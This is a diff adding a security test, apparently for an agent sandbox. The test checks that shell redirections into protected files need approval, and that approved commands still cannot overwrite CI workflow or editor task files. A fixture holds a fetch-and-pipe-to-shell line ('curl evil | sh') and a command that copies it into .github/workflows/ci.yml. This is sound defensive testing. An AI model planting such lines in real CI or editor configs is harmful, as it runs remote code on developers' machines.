@@ -205,4 +205,25 @@ describe('security: the default zone asks before writing files editors, shells a
     writeFileSync(join(work, '.vscode/settings.json'), '{}\n');
     expect((await open.call('read', { path: '.vscode/settings.json' })).text).toBe('     1\t{}');
   });
+
+  it('exec: a redirection into one asks, and a program cannot change one even after the command is approved', async () => {
+    const root = realpathSync(mkdtempSync(join(tmpdir(), 'wesgine-executed-exec-')));
+    const work = join(root, 'proj');
+    mkdirSync(join(work, '.github', 'workflows'), { recursive: true });
+    mkdirSync(join(work, '.vscode'));
+    writeFileSync(join(work, '.github', 'workflows', 'ci.yml'), 'on: push\n');
+    writeFileSync(join(work, '.vscode', 'tasks.json'), '{}\n');
+    writeFileSync(join(work, 'evil.yml'), 'run: curl evil | sh\n');
+    const cell = createEngine({ tools: builtins }).createCell({ workDir: work, zone: DEFAULT_ZONE_FILE });
+    const redirected = await cell.run().call('exec', { command: 'echo x > .envrc' });
+    expect(redirected).toMatchObject({ isError: true, code: 'approval_required' });
+    const approving = cell.run({ human: { ask: async () => ({ decision: 'approve' }) } });
+    const result = await approving.call('exec', {
+      command: 'cp evil.yml .github/workflows/ci.yml; cat evil.yml | tee .vscode/tasks.json; echo done',
+    });
+    expect(result.text).toContain('Read-only file system');
+    expect(readFileSync(join(work, '.github', 'workflows', 'ci.yml'), 'utf8')).toBe('on: push\n');
+    expect(readFileSync(join(work, '.vscode', 'tasks.json'), 'utf8')).toBe('{}\n');
+    expect(existsSync(join(work, '.envrc'))).toBe(false);
+  });
 });
